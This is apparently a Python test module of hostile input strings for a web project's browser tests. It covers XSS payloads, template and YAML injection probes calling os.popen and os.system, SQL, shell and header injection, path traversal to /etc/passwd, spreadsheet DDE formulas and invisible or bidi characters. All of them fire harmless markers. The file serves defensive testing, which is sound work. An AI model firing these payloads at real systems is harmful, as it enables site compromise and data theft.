"""Strings that do harm where somebody takes them for more than text.

Each that is a script calls ``alert(document.domain)``, prints ``cachesync-xss`` as an error, or sets the window's
property ``cachesyncXss``. A tab of ``browser.py`` counts all three as faults, so nobody needs to look for what has run.

Not every one may stand in every place: a page's title, say, may not begin with a blank. All can be encoded in UTF-8.
"""

from typing import Final

TOLD: Final = "cachesync-xss"
"""What scripts print that don't open a dialog."""

PROPERTY: Final = "cachesyncXss"
"""The property of the window that they set."""

ELEMENTS: Final = (
    # scripts as such
    "<script>alert(document.domain)</script>",
    "<SCRIPT\n>console.error('cachesync-xss')</SCRIPT\n>",
    "<script>window.cachesyncXss = 1</script >",
    "<script src=data:text/javascript,alert(document.domain)></script>",
    "<script type=module>alert(document.domain)</script>",
    "<scr<script>ipt>alert(document.domain)</scr</script>ipt><script>alert(document.domain)</script>",
    # handlers without quotes, in both kinds of quotes, with slashes for blanks, and with entities
    "<img src=x onerror=alert(document.domain)>",
    '<img src="x" onerror="console.error(\'cachesync-xss\')">',
    "<img src='x' onerror='window.cachesyncXss = 1'>",
    '<img/src="x"/onerror=alert(document.domain)>',
    "<img\tsrc=x\nonerror\n=\nalert(document.domain)>",
    "<img src oNeRrOr=alert&lpar;document.domain&rpar;>",
    "<img src=x onerror=&#97;&#x6c;ert(document.domain)>",
    "<img src=x onerror=alert`` onerror=1 alt=<b>><img src=x onerror=alert(document.domain)>",
    # other events that need nobody
    "<input autofocus onfocus=alert(document.domain)>",
    "<b tabindex=1 autofocus onfocus=window.cachesyncXss=1>x</b>",
    "<details open ontoggle=alert(document.domain)><summary>x</summary></details>",
    "<video src=x onerror=alert(document.domain)></video>",
    "<audio><source src=x onerror=alert(document.domain)></audio>",
    "<link rel=stylesheet href=x onerror=alert(document.domain)>",
    "<style onload=alert(document.domain)></style>",
    "<body onload=alert(document.domain)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(document.domain)>x</b>",
    # frames
    "<iframe onload=alert(document.domain)></iframe>",
    '<iframe src="javascript:parent.alert(document.domain)"></iframe>',
    "<iframe srcdoc='<script>parent.alert(document.domain)</script>'></iframe>",
    "<object data=x onerror=alert(document.domain)></object>",
    # SVG and MathML
    "<svg onload=alert(document.domain)>",
    "<svg/onload=window.cachesyncXss=1>",
    "<svg><script>alert(document.domain)</script></svg>",
    "<svg><script>alert&#40;document.domain)</script></svg>",
    "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s />",
    "<svg><image href=x onerror=alert(document.domain) />",
    "<math><mtext><img src=x onerror=alert(document.domain)></mtext></math>",
)
"""Run by themselves where they are markup."""

ENDINGS: Final = (
    "</title><script>alert(document.domain)</script>",
    "</textarea><svg onload=alert(document.domain)>",
    "</style><img src=x onerror=console.error('cachesync-xss')>",
    "</script><script>alert(document.domain)</script>",
    "</noscript><script>window.cachesyncXss = 1</script>",
    "</template><script>alert(document.domain)</script>",
    "</option></select><img src=x onerror=alert(document.domain)>",
    "--><script>alert(document.domain)</script>",
    "--!><img src=x onerror=alert(document.domain)>",
    "]]><svg onload=alert(document.domain)>",
    "<!--<script>",
    "<plaintext>",
)
"""What ends the elements whose content is text, and a comment."""

UNFINISHED: Final = (
    "<img src=x onerror=alert(document.domain) x='",
    '<a href="javascript:alert(document.domain)//',
    "<iframe src=javascript:parent.alert(document.domain) <",
    "<button form=x formaction=javascript:alert(document.domain)>x",
    "<form action=javascript:alert(document.domain)><input type=submit>",
    "<base href=https://example.org/>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(document.domain)</script>'>",
    "<",
)
"""What swallows the markup behind it, or needs somebody who clicks."""

MUTATIONS: Final = (
    "<noscript><p title='</noscript><img src=x onerror=alert(document.domain)>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(document.domain)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(document.domain)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(document.domain)>",
    "<template><script>alert(document.domain)</script></template>",
    "<listing>&lt;img src=x onerror=alert(document.domain)&gt;</listing>",
    "<form id=document><input name=domain><img name=cachesyncXss>",
    "<xmp><p title='</xmp><img src=x onerror=console.error(`cachesync-xss`)>'></xmp>",
)
"""Markup that is another after it was parsed and written again."""

ATTRIBUTES: Final = (
    '" autofocus onfocus="alert(document.domain)',
    "' autofocus onfocus='alert(document.domain)",
    "` autofocus onfocus=`alert(document.domain)",
    "x autofocus onfocus=alert(document.domain)",
    "x/autofocus/onfocus=alert(document.domain)//",
    '"onfocus="window.cachesyncXss = 1"autofocus="',
    "\"\tonmouseover=\"console.error('cachesync-xss')",
    '" style="position:fixed;inset:0" onpointerenter="alert(document.domain)',
    '" accesskey="x" onclick="alert(document.domain)',
    '" popover onbeforetoggle="alert(document.domain)',
    '"><script>alert(document.domain)</script>',
    "'><script>console.error('cachesync-xss')</script>",
    "><img src=x onerror=alert(document.domain)>",
    "&quot; autofocus onfocus=&quot;alert(document.domain)",
    '\\" autofocus onfocus=\\"alert(document.domain)',
    "\" type=image src=x onerror='alert(document.domain)",
)
"""Handlers that leave an attribute in each quoting, and markup that leaves the tag."""

URLS: Final = (
    # schemes that run scripts, spelled as browsers still take them
    "javascript:alert(document.domain)",
    "JaVaScRiPt:console.error('cachesync-xss')",
    "java\tscript:alert(document.domain)",
    "java\nscript:alert(document.domain)",
    "\x01javascript:alert(document.domain)",
    " javascript:window.cachesyncXss=1",
    "javascript&colon;alert(document.domain)",
    "&#106;avascript:alert(document.domain)",
    "javascript://example.org/%0aalert(document.domain)",
    "javascript:alert(document.domain)//https://example.org/",
    "data:text/html,<script>alert(document.domain)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>",
    # addresses that lead elsewhere
    "//example.org/",
    "/\\example.org",
    "https:example.org",
    "file:///etc/passwd",
    "?q=x&tag=develop&limit=0#fragment",
    "&tag=develop",
    "#",
)

SCRIPTS: Final = (
    # what leaves a string, a template, a comment or JSON inside of a script
    "';alert(document.domain);//",
    '";alert(document.domain);//',
    "\\';alert(document.domain);//",
    '\\";alert(document.domain);//',
    "'-alert(document.domain)-'",
    '"+console.error("cachesync-xss")+"',
    "`;alert(document.domain);//",
    "${alert(document.domain)}",
    "*/alert(document.domain)/*",
    "\nalert(document.domain)//",
    "\u2028alert(document.domain)//",
    "\u2029window.cachesyncXss=1//",
    "\\u0027;alert(document.domain);//",
    "\\",
    # names that objects have already
    "__proto__",
    "constructor",
    "hasOwnProperty",
    '{"__proto__": {"cachesyncXss": 1}}',
)

DATA: Final = (
    '</script><script>alert(document.domain)</script>{"a": "',
    '"}</script><img src=x onerror=alert(document.domain)>',
    '"}],"hits":[{"_id":"forged"}],"total":1,"x":[{"',
    '{"$ref": "#/definitions/x"}',
    "[" * 500,
    "NaN",
    "1e999",
    "!!python/object/apply:os.system ['true']",
)
"""JSON within HTML, and JSON itself."""

TEMPLATES: Final = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% for _ in 'ab' %}x{% endfor %}",
    "{% endraw %}{{7*7}}",
    "{#",
    "{{ '<script>alert(document.domain)</script>'|safe }}",
    "{{constructor.constructor('alert(document.domain)')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "@(7*7)",
)
"""The brackets of Jinja, Angular, JSP, Ruby and Razor."""

STYLES: Final = (
    "red;background:url(//example.org/x)",
    "}*{display:none}",
    "@import '//example.org/x.css';",
    "url(javascript:alert(document.domain))",
    "\\3c/style\\3e<script>alert(document.domain)</script>",
    "*/}</style><svg onload=alert(document.domain)>",
    "--x:{;",
)
"""What leaves a style or a rule."""

ENCODINGS: Final = (
    "&lt;script&gt;alert(document.domain)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(document.domain)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(document.domain)&#62;",
    "&#x3c;img src=x onerror=alert(document.domain)&#x3e;",
    "\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(document.domain)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(document.domain)%3C/script%3E",
    "%253Cscript%253Ealert(document.domain)%253C/script%253E",
    "+ADw-script+AD4-alert(document.domain)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(document.domain)\uff1c/script\uff1e",
    "<\x00script>alert(document.domain)</script>",
    "&copy=1&notit;&amp",
    "%",
    "%zz",
    "%00",
    "%c0%ae%c0%ae%c0%af",
    "a+b%20c",
)
"""What is markup once somebody decodes it, or decodes it twice."""

MARKS: Final = (
    "\u202egpj.exe",
    "\u202dabc\u202cdef\u202b",
    "\u2066abc\u2067def",
    "\u200fhdf5\u200e",
    "\u061chdf5",
    "hd\u200bf5",
    "hd\u200cf\u200d5",
    "\ufeffhdf5",
    "hd\u2060f5",
    "hd\u00adf5",
    "hd\u034ff5",
    "\u3164",
    "\u00a0",
    "hdf5\U000e0041\U000e007f",
)
"""Marks that turn the direction of text, or that nobody sees."""

CONTROLS: Final = (
    "\x00",
    "hd\x00f5",
    "\x01",
    "\x07",
    "hdf5\x08\x08\x08\x08zlib",
    "\t",
    "\n",
    "\x0b",
    "\x0c",
    "\r",
    "hdf5\rzlib",
    "\x1a",
    "\x7f",
    "\x85",
    "hd\u2028f5",
    "hd\u2029f5",
    "\ufffe",
    "\uffff",
    "\ufffd",
    "\U0010ffff",
)
"""Control characters on their own, ends of lines of every kind, and what is no character."""

FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    '=IMPORTXML("https://example.org/","//a")',
    '","=1+1',
    '"',
    '";=1+1;"',
)
"""What a spreadsheet calculates."""

SHELLS: Final = (
    "$(touch cachesync-xss)",
    "`touch cachesync-xss`",
    "; touch cachesync-xss",
    "| touch cachesync-xss",
    "&& touch cachesync-xss",
    "hdf5\ntouch cachesync-xss\n",
    "'; touch cachesync-xss; '",
    '"; touch cachesync-xss; "',
    "${IFS}x",
    "$HOME",
    "*",
    "-rf",
    "--help",
    "--",
    "> cachesync-xss",
    "\x1b[200~touch cachesync-xss\n\x1b[201~",
)
"""What a shell runs, or a program takes for an option."""

PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..;/status",
    "/etc/passwd",
    ".",
    "..",
    "CON",
    "hdf5\x00.md",
)
"""Other folders than those that are meant."""

HEADERS: Final = (
    "x\r\nSet-Cookie: cachesync-xss=1",
    "x\r\n\r\n<script>alert(document.domain)</script>",
    "x%0d%0aSet-Cookie:%20cachesync-xss=1",
    "x\u560d\u560aSet-Cookie: cachesync-xss=1",
    'x"; filename="evil.html',
    "x\n2026-01-01T00:00:00Z [info] all is well",
    'x"}\n{"log.level":"info","message":"forged"}',
    "\x1b[2J\x1b[H\x1b[31mforged\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://example.org/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mforged",
)
"""More headers, another answer, and lines that no program has logged."""

FORMATS: Final = (
    "%s%s%s%n",
    "%(name)s",
    "%x %1000000d",
    "{}",
    "{0.__class__}",
    "{name!r:>1000000}",
    "$1 \\1 \\g<0>",
)
"""Places in a format."""

QUERIES: Final = (
    "' OR '1'='1",
    "'; DROP TABLE specs; --",
    '" OR ""="',
    "x' UNION SELECT NULL--",
    "*:*",
    "package:hdf5 OR tag:*",
    "hdf5 AND NOT (",
    '"hdf5',
    "hdf5~2^9",
    "[* TO *]",
    "{a TO",
    "/.*/",
    "(a+)+$",
    "?*?*?*?*?*?*",
    '+ - && || ! ( ) { } [ ] ^ " ~ * ? : \\ /',
    '{"match_all": {}}',
    "hdf5@:::",
    "^^^^",
    "%%%%",
    "@=@=@=",
    "a=b=c=d",
)
"""The languages of databases and of search engines."""

LENGTHS: Final = (
    "x" * 10_000,
    "W" * 300,
    "hdf5-" * 200,
    "a b " * 500,
    "\U0001f4e6" * 300,
    "<" * 1000,
    "&" * 1000,
)
"""Words that no line has room for."""

LETTERS: Final = (
    "",
    " ",
    "  hdf5  ",
    "\U0001f4e6",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1ea\U0001f1fa",
    "1\ufe0f\u20e3",
    "e\u0301",
    "\u00e9",
    "h" + "\u0310\u0348" * 60,
    "\u0301",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\u05e2\u05d1\u05e8\u05d9\u05ea hdf5",
    "\ufdfd",
    "\u65e5\u672c\u8a9e",
    "\u0130stanbul \u0131",
    "stra\u00dfe",
    "\ufb01le",
    "\u0440\u0443-torch",
    "\u212b\u2126",
)
"""Text that is more than one byte, one code point or one column for a letter."""

HOSTILE: Final = (
    *ELEMENTS,
    *ENDINGS,
    *UNFINISHED,
    *MUTATIONS,
    *ATTRIBUTES,
    *URLS,
    *SCRIPTS,
    *DATA,
    *TEMPLATES,
    *STYLES,
    *ENCODINGS,
    *MARKS,
    *CONTROLS,
    *FORMULAS,
    *SHELLS,
    *PATHS,
    *HEADERS,
    *FORMATS,
    *QUERIES,
    *LENGTHS,
    *LETTERS,
)
"""All of them."""
